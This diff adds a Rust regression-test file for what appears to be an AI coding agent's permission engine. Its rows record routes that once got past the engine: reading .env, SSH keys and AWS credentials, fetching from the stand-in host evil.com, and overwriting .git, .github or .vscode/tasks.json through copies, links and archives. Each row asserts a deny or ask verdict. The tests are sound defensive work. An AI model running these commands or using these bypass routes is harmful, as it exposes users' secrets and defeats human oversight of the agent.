@@ -1,0 +1,380 @@
+//! Ways around the engine that once worked, one row each.
+//!
+//! The machine here has a few files, links and folders without end, because most of these ways led
+//! past a name: through a folder, a link, an argument, a question that was not asked.
+
+use std::path::{Path, PathBuf};
+
+use zero_core::{Effect, Execution, Risk, TargetPath, Whereabouts};
+use zero_policy::rule::{Owner, Source};
+use zero_policy::{
+    Decision, Engine, EngineConfig, Grant, Mode, NoWorld, Request, Rule, Sought, Verdict, World,
+};
+
+use crate::judging::engine;
+
+const FILES: &[&str] = &[
+    "/w/.env",
+    "/w/secrets/key",
+    "/w/src/a.rs",
+    "/w/src/b.rs",
+    "/w/docs/a.md",
+    "/w/evil/.vscode/tasks.json",
+    "/w/evil/workflows/x.yml",
+    "/w/plain/a",
+    "/w/plain/deep/b",
+    "/w/real/secret.txt",
+];
+/// A link and what it leads to.
+const LINK: (&str, &str) = ("/w/link", "/w/real");
+/// Folders with more files than anybody looks at.
+const ENDLESS: &[&str] = &["/", "/w/huge"];
+
+/// A machine with those files.
+struct Disk {
+    /// Where `npm` lies, if it is there.
+    npm: Option<&'static str>,
+}
+
+impl World for Disk {
+    fn canonical(&self, absolute: &Path) -> Option<PathBuf> {
+        let plain = NoWorld.canonical(absolute)?;
+        Some(match plain.strip_prefix(LINK.0) {
+            Ok(below) => Path::new(LINK.1).join(below).components().collect(),
+            Err(_) => plain,
+        })
+    }
+
+    fn expand(&self, pattern: &str, _most: usize) -> Option<Vec<PathBuf>> {
+        let (start, end) = pattern.split_once('*').unwrap_or((pattern, ""));
+        let fits = |file: &&&str| {
+            let rest = file.strip_prefix(start).and_then(|rest| rest.strip_suffix(end));
+            rest.is_some_and(|rest| !rest.contains('/') && !rest.starts_with('.'))
+        };
+        Some(FILES.iter().filter(fits).map(PathBuf::from).collect())
+    }
+
+    fn git_helpers(&self, _folder: &Path) -> Vec<String> {
+        Vec::new()
+    }
+
+    fn program(&self, name: &str, _folder: &Path) -> Option<PathBuf> {
+        self.npm.filter(|_| name == "npm").map(PathBuf::from)
+    }
+
+    fn find(&self, folder: &Path, wanted: &dyn Fn(&Path) -> bool) -> Sought {
+        if ENDLESS.iter().any(|endless| Path::new(endless) == folder) {
+            return Sought::GaveUp;
+        }
+        let mut beneath = FILES.iter().map(PathBuf::from).filter(|file| file.starts_with(folder));
+        beneath.find(|file| wanted(file)).map_or(Sought::Nowhere, Sought::Found)
+    }
+}
+
+fn decide(engine: &Engine, command: &str, grants: &[Grant], world: &Disk) -> Decision {
+    let effects = [Effect::Exec(Execution::shell(command))];
+    engine.decide(Request { tool: "Bash", risk: Risk::High, effects: &effects, grants, world })
+}
+
+/// Checks the verdict on a command.
+#[track_caller]
+fn check(mode: Mode, rules: &str, command: &str, expected: &str) {
+    let decision = decide(&engine(rules, mode), command, &[], &Disk { npm: None });
+    assert_eq!(
+        decision.verdict.word(),
+        expected,
+        "`{command}` under `{rules}` in {mode}: {}\n{:#?}",
+        decision.reason,
+        decision.effects
+    );
+}
+
+/// The same in the modes that ask little, with everything allowed by rules too.
+#[track_caller]
+fn check_open(command: &str, expected: &str) {
+    check(Mode::AcceptEdits, "allow Bash(*); allow Edit; allow Delete", command, expected);
+    check(Mode::Auto, "allow Bash(*); allow Edit; allow Delete", command, expected);
+}
+
+#[test]
+fn what_is_too_much_to_look_at_is_asked() {
+    const DENY: &str = "allow Bash(*); deny Read(.env)";
+    check(Mode::Auto, DENY, "grep -r x huge", "ask");
+    check(Mode::Auto, DENY, "grep -r x plain", "allow");
+    check(Mode::Auto, DENY, "grep -r x .", "ask");
+    check(Mode::Auto, DENY, "grep -r x /", "ask");
+    check(Mode::Auto, "allow Bash(*)", "grep -r x huge", "allow");
+    check(Mode::Auto, "allow Bash(*)", "grep -r x .", "allow");
+    check(Mode::Ask, "ask Read(src/a.rs)", "grep -r x src", "ask");
+    check(Mode::Ask, "ask Read(src/a.rs)", "grep -r x docs", "allow");
+    // By the name that was written, and by what a link leads to.
+    check(Mode::Ask, "deny Read(link/secret.txt)", "grep -r x link/", "ask");
+    check(Mode::Ask, "deny Read(real/secret.txt)", "grep -r x link/", "ask");
+}
+
+#[test]
+fn a_search_leaves_out_what_must_be_asked() {
+    let may = |rules: &str, written: &str, canonical: &str| {
+        engine(rules, Mode::Ask).may_read("Grep", Path::new(written), Path::new(canonical))
+    };
+    assert!(may("", "src/a.rs", "/w/src/a.rs"));
+    assert!(!may("ask Read(src/a.rs)", "src/a.rs", "/w/src/a.rs"));
+    assert!(!may("deny Read(src/a.rs)", "src/a.rs", "/w/src/a.rs"));
+    assert!(!may("ask Grep(src/**)", "src/a.rs", "/w/src/a.rs"));
+    assert!(may("ask Glob(src/**)", "src/a.rs", "/w/src/a.rs"));
+    // Whoever is asked about every read was asked about the search.
+    assert!(may("ask Read", "src/a.rs", "/w/src/a.rs"));
+    assert!(!may("deny Read", "src/a.rs", "/w/src/a.rs"));
+    assert!(!may("deny Read(link/x)", "link/x", "/w/real/x"));
+    assert!(!may("", ".ssh/id_rsa", "/w/.ssh/id_rsa"));
+    assert!(may("allow Read(.ssh/**)", ".ssh/id_rsa", "/w/.ssh/id_rsa"));
+    assert!(engine("ask Read(src/a.rs)", Mode::Ask).filters_reads());
+    assert!(engine("deny Read(src/a.rs)", Mode::Ask).filters_reads());
+    assert!(!engine("allow Read(src/a.rs)", Mode::Ask).filters_reads());
+}
+
+#[test]
+fn what_an_unknown_program_is_told_is_compared_with_files() {
+    const RULES: &str = "allow Bash(*); allow Edit; allow Read; deny Read(.env); \
+        deny Read(secrets/**); deny Edit(src/**); ask Read(docs/**)";
+    for (command, expected) in [
+        ("foo .env", "deny"),
+        ("foo ./.env", "deny"),
+        ("foo --file=.env", "deny"),
+        ("foo -f.env", "deny"),
+        ("foo if=.env", "deny"),
+        ("foo @.env", "deny"),
+        ("foo .e*", "deny"),
+        ("foo secrets/x", "deny"),
+        ("foo secrets/*", "deny"),
+        ("foo \"secrets/$x\"", "deny"),
+        ("foo -v ./secrets:/mnt", "deny"),
+        ("cd secrets && foo key", "deny"),
+        ("gpg -c .env", "deny"),
+        ("docker run --env-file=.env img", "deny"),
+        ("rustfmt src/a.rs", "deny"),
+        ("clang-format -i src/a.c", "deny"),
+        ("black src", "deny"),
+        ("timeout 5 gpg -c .env", "deny"),
+        ("foo docs/a.md", "ask"),
+        ("foo other", "allow"),
+        ("foo --file=other", "allow"),
+        // To run or read what must not be changed changes nothing.
+        ("pytest src/a.py", "allow"),
+        ("node src/a.js", "allow"),
+        ("make src", "allow"),
+        ("npm run src", "allow"),
+    ] {
+        check(Mode::Auto, RULES, command, expected);
+    }
+    // A rule without a path is about the calls, not about every word.
+    check(Mode::Auto, "allow Bash(*); deny Edit", "foo x", "allow");
+    let parts: Vec<String> = (0..100).map(|part| part.to_string()).collect();
+    let many = format!("foo {}", parts.join(","));
+    check(Mode::Auto, RULES, &many, "ask");
+}
+
+#[test]
+fn what_an_unknown_program_is_told_is_compared_with_hosts() {
+    const RULES: &str =
+        "allow Bash(*); deny WebFetch(domain:evil.com); ask WebFetch(domain:*.x.org)";
+    for (command, expected) in [
+        ("lynx http://evil.com", "deny"),
+        ("lynx HTTP://EVIL.com./x", "deny"),
+        ("pip install http://evil.com/x", "deny"),
+        ("pip install git+https://evil.com/x", "deny"),
+        ("npm i --registry=http://evil.com", "deny"),
+        ("go get evil.com/x", "deny"),
+        ("docker pull evil.com/x", "deny"),
+        ("psql -h evil.com", "deny"),
+        ("psql -hevil.com", "deny"),
+        ("openssl s_client evil.com:443", "deny"),
+        ("foo me@evil.com:x", "deny"),
+        ("foo \"http://evil.com/$x\"", "deny"),
+        ("foo 'http://evil.com/?a=*'", "deny"),
+        ("foo https://a.x.org/y", "ask"),
+        ("foo http://a@b@evil.com", "ask"),
+        ("foo http://good.com", "allow"),
+        ("foo notevil.com", "allow"),
+        ("foo main.rs", "allow"),
+        ("foo file:///w/x", "allow"),
+    ] {
+        check(Mode::Auto, RULES, command, expected);
+    }
+    check(Mode::Auto, "allow Bash(*); deny WebFetch", "lynx http://a.com", "deny");
+    // A word that may be a file is not caught by what is said of all hosts.
+    check(Mode::Auto, "allow Bash(*); deny WebFetch", "foo main.rs", "allow");
+    check(Mode::Auto, "allow Bash(*); deny WebFetch(domain:*)", "foo main.rs", "allow");
+    // It never allows.
+    check(Mode::Ask, "allow WebFetch(domain:evil.com)", "lynx http://evil.com", "ask");
+}
+
+#[test]
+fn what_an_unknown_program_is_told_may_be_protected() {
+    for command in [
+        "gpg -o .git/config x",
+        "mknod .git/hooks/x p",
+        "ssh-keygen -f .git/config",
+        "foo --out=.vscode/tasks.json",
+        "foo .github",
+        "python3 -m venv .git",
+    ] {
+        check(Mode::Auto, "", command, "ask");
+        check(Mode::Auto, "allow Bash(*)", command, "ask");
+    }
+    check(Mode::Auto, "", "foo src/a.rs", "allow");
+    check(Mode::Auto, "", "make CC=/usr/bin/gcc", "allow");
+    check(Mode::Auto, "", "git add .github/workflows/ci.yml", "allow");
+    check(Mode::Auto, "allow Bash(foo .github)", "foo .github", "allow");
+}
+
+#[test]
+fn a_folder_is_not_replaced_with_what_no_rule_opens() {
+    for command in [
+        "cp -r evil/. .",
+        "cp -rT evil .",
+        "cp -a evil/. /w",
+        "cp -r evil/* .github",
+        "cp -rT evil .github",
+        "cp -rT evil .cargo",
+        "ln -sfn evil .github",
+        "mv .github x",
+        "mv .git y",
+        "mv evil .cargo",
+        "mv evil .config",
+        "mv evil gradle",
+        "mv . x",
+        "cp -r huge/. .",
+        "cp -r \"$x\" .",
+        "tar xf x",
+        "unzip x",
+        "unzip -o x.zip",
+        "tar xf x .vscode/tasks.json",
+        "rm -r .vscode",
+    ] {
+        check_open(command, "ask");
+    }
+    for command in
+        ["cp -r plain/. .", "cp -r plain .", "mv plain other", "tar xf x -C vendor", "cp a.rs ."]
+    {
+        check_open(command, "allow");
+    }
+}
+
+/// An engine whose workspace is the home folder.
+fn at_home(rules: &str, mode: Mode) -> Engine {
+    let source = || Source { name: "test".to_owned(), line: None, owner: Owner::Person };
+    let parse = |text| Rule::parse(text, Verdict::Allow, source()).unwrap();
+    Engine::new(EngineConfig {
+        rules: rules.split("; ").filter(|rule| !rule.is_empty()).map(parse).collect(),
+        mode,
+        roots: vec![PathBuf::from("/home/me")],
+        home: Some(PathBuf::from("/home/me")),
+        ..EngineConfig::default()
+    })
+}
+
+#[test]
+fn secrets_are_asked_about_in_a_workspace_too() {
+    let verdict = |rules: &str, command: &str| {
+        let engine = at_home(rules, Mode::Auto);
+        decide(&engine, command, &[], &Disk { npm: None }).verdict.word()
+    };
+    for (rules, command, expected) in [
+        ("", "cat .ssh/id_rsa", "ask"),
+        ("Bash(*)", "cat .ssh/id_rsa", "ask"),
+        ("Bash(cat:*)", "cat .aws/credentials", "ask"),
+        ("Bash(cat .ssh/id_rsa)", "cat .ssh/id_rsa", "allow"),
+        ("Read(~/.ssh/**)", "cat .ssh/id_rsa", "allow"),
+        ("", "cat notes.txt", "allow"),
+        ("", "grep -r x .", "ask"),
+        ("Bash(*)", "grep -r x .", "ask"),
+        ("Read(~/**)", "grep -r x .", "allow"),
+        ("", "grep -r x notes", "allow"),
+    ] {
+        assert_eq!(verdict(rules, command), expected, "`{command}` under `{rules}`");
+    }
+    assert!(at_home("", Mode::Ask).filters_reads());
+    let may =
+        |file: &str| at_home("", Mode::Ask).may_read("Grep", Path::new(file), Path::new(file));
+    assert!(!may("/home/me/.ssh/id_rsa"));
+    assert!(may("/home/me/notes.txt"));
+}
+
+#[test]
+fn to_let_a_file_be_changed_is_not_to_let_it_go() {
+    check(Mode::Ask, "allow Edit(src/**)", "rm src/a.rs", "ask");
+    check(Mode::Ask, "allow Write", "rm src/a.rs", "ask");
+    check(Mode::Ask, "allow Edit(src/**)", "mv src/a.rs src/c.rs", "ask");
+    check(Mode::Ask, "allow Delete(src/**)", "rm src/a.rs", "allow");
+    check(Mode::Ask, "allow Bash(rm src/a.rs)", "rm src/a.rs", "allow");
+    check(Mode::Ask, "deny Edit(src/**); allow Delete", "rm src/a.rs", "deny");
+    check(Mode::Ask, "ask Edit(src/**); allow Delete", "rm src/a.rs", "ask");
+}
+
+#[test]
+fn a_pattern_is_the_files_it_stands_for() {
+    check(Mode::Ask, "allow Edit(src/**)", "sed -i s/a/b/ src/*.rs", "allow");
+    check(Mode::Ask, "allow Edit(src/*.rs)", "sed -i s/a/b/ src/*.rs", "allow");
+    check(Mode::Ask, "allow Edit(src/a.rs)", "sed -i s/a/b/ src/*.rs", "ask");
+    check(Mode::Ask, "allow Edit(src/**); deny Edit(src/b.rs)", "sed -i s/a/b/ src/*.rs", "deny");
+    check(Mode::AcceptEdits, "", "touch .git/*", "ask");
+    check(Mode::AcceptEdits, "", "touch .github/*", "ask");
+}
+
+#[test]
+fn a_name_of_a_remote_tool_is_denied_in_every_case_of_letters() {
+    let verdict = |rules: &str, server: &str, tool: &str| {
+        let effects = [Effect::Mcp { server: server.to_owned(), tool: tool.to_owned() }];
+        let (name, risk) = (format!("{server}__{tool}"), Risk::High);
+        let request =
+            Request { tool: &name, risk, effects: &effects, grants: &[], world: &NoWorld };
+        engine(rules, Mode::Auto).decide(request).verdict.word()
+    };
+    for (rules, server, tool, expected) in [
+        ("allow *; deny github__create_issue", "GitHub", "create_issue", "deny"),
+        ("allow *; deny github__create_issue", "github", "Create_Issue", "deny"),
+        ("allow *; deny GitHub__*", "github", "x", "deny"),
+        ("allow *; ask mcp__github", "GITHUB", "x", "ask"),
+        ("allow github__x", "GitHub", "x", "ask"),
+        ("allow github__x", "github", "x", "allow"),
+    ] {
+        assert_eq!(verdict(rules, server, tool), expected, "{server}__{tool} under `{rules}`");
+    }
+}
+
+#[test]
+fn braces_are_not_silently_nothing() {
+    let source = Source { name: "test".to_owned(), line: None, owner: Owner::Person };
+    let error = Rule::parse("Read({s1,s2})", Verdict::Deny, source).unwrap_err().to_string();
+    assert!(error.contains("write a rule for each"), "{error}");
+}
+
+#[test]
+fn a_grant_for_a_folder_opens_nothing_beneath() {
+    let engine = engine("", Mode::Ask);
+    let disk = Disk { npm: None };
+    let folder = TargetPath::new("~", "/home/me".into(), Whereabouts::Outside);
+    let effects = [Effect::Read(folder)];
+    let request =
+        Request { tool: "LS", risk: Risk::Low, effects: &effects, grants: &[], world: &disk };
+    let grants = engine.decide(request).grants;
+    assert_eq!(grants.len(), 1);
+    assert_eq!(engine.decide(Request { grants: &grants, ..request }).verdict, Verdict::Allow);
+    for command in ["cat ~/.ssh/id_rsa", "cat ~/x", "grep -r x ~"] {
+        let decision = decide(&engine, command, &grants, &disk);
+        assert_eq!(decision.verdict, Verdict::Ask, "{command}: {}", decision.reason);
+    }
+    assert_eq!(decide(&engine, "tar xf x", &[], &disk).grants, []);
+    assert_eq!(decide(&engine, "unzip x -d vendor", &[], &disk).grants, []);
+}
+
+#[test]
+fn a_grant_for_a_program_that_was_not_there_is_not_for_one_that_comes() {
+    let engine = engine("", Mode::Ask);
+    let gone = Disk { npm: None };
+    let grants = decide(&engine, "npm test", &[], &gone).grants;
+    assert_eq!(decide(&engine, "npm test", &grants, &gone).verdict, Verdict::Allow);
+    let come = Disk { npm: Some("/tmp/npm") };
+    assert_eq!(decide(&engine, "npm test", &grants, &come).verdict, Verdict::Ask);
+}
